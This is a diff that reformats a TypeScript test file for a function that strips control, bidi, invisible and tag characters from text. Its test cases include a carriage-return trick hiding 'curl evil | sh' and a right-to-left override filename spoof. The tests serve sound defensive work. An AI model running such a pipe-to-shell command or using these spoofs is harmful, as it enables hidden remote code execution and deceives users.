@@ -20,7 +20,12 @@ const cases: readonly (readonly [name: string, dirty: string, text: string, remo
   ['a one-byte title', 'a\x9d0;owned\x9cb', 'ab', { ansi: 1 }],
   ['UTF-8 read as Latin-1', 'the \u00e2\x80\x9dend\u00e2\x80\x9d of it', 'the \u00e2end\u00e2 of it', { control: 4 }],
   ['a null, a bell and a backspace', 'a\0b\x07c\x08d\x7f', 'abcd', { control: 4 }],
-  ['a line overwritten on a terminal', 'curl evil | sh\recho hello     ', 'curl evil | sh\necho hello     ', { control: 1 }],
+  [
+    'a line overwritten on a terminal',
+    'curl evil | sh\recho hello     ',
+    'curl evil | sh\necho hello     ',
+    { control: 1 },
+  ],
   ['a next-line control', 'a\x85b', 'a\nb', { control: 1 }],
   ['a right-to-left override', 'file\u202efdp.exe', 'filefdp.exe', { bidi: 1 }],
   ['isolates and marks', '\u2066a\u2069\u200e\u200f\u061c', 'a', { bidi: 5 }],
@@ -30,7 +35,12 @@ const cases: readonly (readonly [name: string, dirty: string, text: string, remo
   ['invisible operators and annotation', 'x\u2062y\ufff9z\u{1d173}\u{1bca0}', 'xyz', { invisible: 4 }],
   ['words in tag characters', 'hi\u{e0001}\u{e0068}\u{e0069}\u{e007f}', 'hi', { tag: 4 }],
   ['tags behind a flag that no country has', '\u{1f3f4}\u{e0068}\u{e0069}\u{e007f}', '\u{1f3f4}', { tag: 3 }],
-  ['bytes in selectors behind an emoji', '\u{1f600}\ufe0f\ufe01\u{e0110}\u{e0120}', '\u{1f600}\ufe0f', { variation: 3 }],
+  [
+    'bytes in selectors behind an emoji',
+    '\u{1f600}\ufe0f\ufe01\u{e0110}\u{e0120}',
+    '\u{1f600}\ufe0f',
+    { variation: 3 },
+  ],
   ['a selector behind a letter', 'a\ufe0f\u{e0100}', 'a', { variation: 2 }],
   ['a joiner flood behind a joining letter', '\u0915\u200d\u200d\u200c\u200d', '\u0915\u200d', { invisible: 3 }],
   ['half a surrogate pair', 'a\ud83db\ude00', 'a\ufffdb\ufffd', { surrogate: 2 }],
@@ -90,15 +100,54 @@ describe('clean', () => {
 const nasty = fc.string({
   unit: fc.oneof(
     fc.constantFrom(
-      '\x1b', '\x1b[', '\x1b]', '\x9b', '\x9d', '\x9c', '\x07', '\r', '\n', '\r\n', '\x85', 'm', '1', ';', '\u200d', '\u200c', '\ufe0f', '\ufe00',
-      '\u{1f468}', '\u{1f3fd}', '\u{1f3f4}', '\u{e0067}', '\u{e007f}', '\u{e0100}', '\u0915', '\u094d', '\u0645', '\u845b', '\u20e3', '#',
-      '\ud83d', '\ude00', '\u202e', '\u180b', '\u1820', '\u115f', '\u1160', '\u1100', '\u17b4', '\u3164', '\ufeff',
+      '\x1b',
+      '\x1b[',
+      '\x1b]',
+      '\x9b',
+      '\x9d',
+      '\x9c',
+      '\x07',
+      '\r',
+      '\n',
+      '\r\n',
+      '\x85',
+      'm',
+      '1',
+      ';',
+      '\u200d',
+      '\u200c',
+      '\ufe0f',
+      '\ufe00',
+      '\u{1f468}',
+      '\u{1f3fd}',
+      '\u{1f3f4}',
+      '\u{e0067}',
+      '\u{e007f}',
+      '\u{e0100}',
+      '\u0915',
+      '\u094d',
+      '\u0645',
+      '\u845b',
+      '\u20e3',
+      '#',
+      '\ud83d',
+      '\ude00',
+      '\u202e',
+      '\u180b',
+      '\u1820',
+      '\u115f',
+      '\u1160',
+      '\u1100',
+      '\u17b4',
+      '\u3164',
+      '\ufeff',
     ),
     fc.constantFrom(...'abc 0'),
   ),
   maxLength: 40,
 });
-const FORBIDDEN = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\u3164\ufeff\ud800-\udfff]|\r(?!\n)/u;
+const FORBIDDEN =
+  /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\u3164\ufeff\ud800-\udfff]|\r(?!\n)/u;
 
 describe('clean, for any text', () => {
   test('nothing forbidden is left, and a second cleaning changes nothing [S2.26]', () => {
@@ -115,10 +164,13 @@ describe('clean, for any text', () => {
 
   test('what is left of visible text was there before, in order', () => {
     fc.assert(
-      fc.property(fc.array(fc.tuple(fc.constantFrom('\u200b', '\0', '\u202e', '\x1b[0m', ''), fc.stringMatching(/^[a-z]{0,5}$/))), (parts) => {
-        const dirty = parts.map(([bad, word]) => bad + word).join('');
-        expect(clean(dirty).text).toBe(parts.map(([, word]) => word).join(''));
-      }),
+      fc.property(
+        fc.array(fc.tuple(fc.constantFrom('\u200b', '\0', '\u202e', '\x1b[0m', ''), fc.stringMatching(/^[a-z]{0,5}$/))),
+        (parts) => {
+          const dirty = parts.map(([bad, word]) => bad + word).join('');
+          expect(clean(dirty).text).toBe(parts.map(([, word]) => word).join(''));
+        },
+      ),
     );
   });
 });
